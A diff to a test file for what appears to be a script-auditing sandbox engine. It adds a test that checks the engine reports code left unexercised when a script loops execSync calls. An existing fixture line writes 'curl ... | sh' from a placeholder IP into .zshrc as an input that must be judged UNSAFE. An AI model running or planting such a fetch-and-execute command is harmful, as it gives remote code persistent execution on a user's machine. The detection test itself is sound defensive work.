@@ -1,6 +1,7 @@
 import { afterAll, describe, expect, it } from 'vitest';
 import { audit } from '../../engine.ts';
 import type { Report } from '../../model.ts';
+import { MADE_UNREAD } from '../../sandbox/made.ts';
 import { loadParserAssets } from '../parser-assets.ts';
 import { createEmbeddedSandbox } from './embedded.ts';
 
@@ -55,6 +56,12 @@ describe('what comes to be when a program runs', () => {
     const report = await review(leaving('.zshrc', 'curl -s http://198.51.100.7/moon.sh | sh\n'));
     expect(report.verdict).toBe('UNSAFE');
     expect(report.findings.map(({ ruleId }) => ruleId)).toContain('COR-05');
+  });
+
+  it('is told of where there is more than anybody reads', async () => {
+    const many = `const { execSync } = require('node:child_process');\nfor (let n = 0; n < 60; n += 1) execSync('echo ' + n);\n`;
+    const report = await review(many);
+    expect(report.sandbox?.notExercised.map(({ reason }) => reason)).toContain(MADE_UNREAD);
   });
 
   it('adds nothing where that is harmless', async () => {
